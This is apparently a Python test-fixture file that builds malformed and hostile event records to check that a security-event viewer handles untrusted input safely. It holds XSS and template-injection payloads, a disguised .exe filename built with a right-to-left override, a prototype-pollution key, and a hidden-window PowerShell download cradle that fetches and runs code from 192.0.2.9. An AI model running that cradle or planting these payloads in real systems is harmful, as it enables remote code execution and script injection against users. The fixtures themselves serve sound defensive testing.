"""Events whose values try to be more than text, and records that are no events."""

from __future__ import annotations

import json

MARKUP = "<img src=x onerror=alert(1)><script>document.title='stolen'</script>"
TEMPLATE = "{{constructor.constructor('alert(2)')()}} ${alert(3)} <%= 7*7 %>"
TURNED = "invoice\u202efdp.exe\u0000\u200b"
LONG = "A" * 1_000_000
CRADLE = "powershell.exe -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.9/a')"

HOSTS = {
    "markup": MARKUP,
    "template": TEMPLATE,
    "turned": TURNED,
    "address": "javascript:alert(4)//\"' onmouseover=alert(5) x='",
}
"""Names of hosts, each in an event in which something is found."""


def _event(number: int, host: str, command: str) -> bytes:
    event = {
        "event_id": f"0badc0de-0000-4000-8000-{number:012d}",
        "event_type": "process_start",
        "timestamp": f"2026-11-21T09:00:{number:02d}Z",
        "host": host,
        "user": MARKUP,
        "source_ip": "192.0.2.9",
        "process": "powershell.exe",
        "parent_process": MARKUP,
        "command_line": f"{CRADLE} {command}",
        "</pre><script>alert(6)</script>": TEMPLATE,
        "__proto__": {"polluted": "yes"},
    }
    return json.dumps(event).encode()


HOSTILE_EVENTS = (
    *(_event(number, host, host) for number, host in enumerate(HOSTS.values())),
    _event(20, "ws-long", LONG),
)

REJECTED = (
    b'{"event_type": "<script>alert(7)</script>',
    MARKUP.encode(),
    b"\xff\xfe\x00\x01 no text at all",
    TURNED.encode(),
)
